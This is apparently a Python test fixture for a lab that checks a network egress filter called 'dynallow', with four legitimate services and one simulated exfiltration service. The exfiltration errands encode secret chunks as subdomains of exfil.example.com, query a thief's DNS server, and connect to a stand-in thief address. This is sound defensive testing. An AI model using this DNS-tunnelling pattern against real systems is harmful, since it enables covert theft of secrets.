"""A host with five services, and a day of theirs.

Knows who they are, what they want, and where that is. Must not know dynallow: a service
asks and connects as it would anywhere.
"""

from __future__ import annotations

import json
from dataclasses import dataclass

from tests.lab.lab import Lab
from tests.lab.zone import Zone

APT, API, TELEMETRY, TIME, UNTRUSTED = 42, 3001, 3002, 3003, 3004
SECRETS = tuple(f"c2VjcmV0LWNodW5rLW51bWJlci0{number:04d}" for number in range(40))
THIEF, THIEFS_SERVER = "198.51.100.66", "198.51.100.53"


@dataclass(frozen=True, slots=True)
class Service:
    """Who it runs as, and its errands (`day_process.py` says how they are written)."""

    name: str
    uid: int
    errands: tuple[str, ...]

    def work(self, lab: Lab) -> dict[str, str]:
        """Do it once; the errands that failed, with why."""
        done = lab.host.run(
            [lab.host.python_path, "-m", "tests.lab.day_process", *self.errands], user=self.uid, timeout=180
        )
        return dict(json.loads(done.stdout))


LEGITIMATE = (
    Service("package updates", APT, ("tcp:deb.mirror.example.org:80", "tcp:security.mirror.example.org:80")),
    Service("API client", API, ("tcp:api.vendor.example.net:443",)),
    Service(
        "telemetry shipper", TELEMETRY, tuple(f"tcp:shard{n}.ingest.example.com:8443" for n in range(1, 8))
    ),
    Service("time", TIME, ("udp:time.example.org:123",)),
)
EXFILTRATION = Service(
    "exfiltration",
    UNTRUSTED,
    (
        *(f"ask:{secret}.exfil.example.com" for secret in SECRETS),
        f"dns:{SECRETS[0]}.exfil.example.com:{THIEFS_SERVER}",
        f"tcp:[{THIEF}]:443",
        f"udp:[{THIEF}]:4000",
    ),
)


def zones() -> tuple[Zone, ...]:
    """What the internet knows of all that."""
    shards, stolen = Zone("example.com"), [f"{secret}.exfil" for secret in SECRETS]
    for number in range(1, 8):
        shards.both(f"shard{number}.ingest", 30 + number)
    for name in stolen:
        shards.a(name, THIEF)
    return (
        Zone("example.org").both("deb.mirror", 11).both("security.mirror", 12).both("time", 13),
        Zone("example.net").cname("api.vendor", "lb7.vendor").both("lb7.vendor", 21),
        shards,
    )
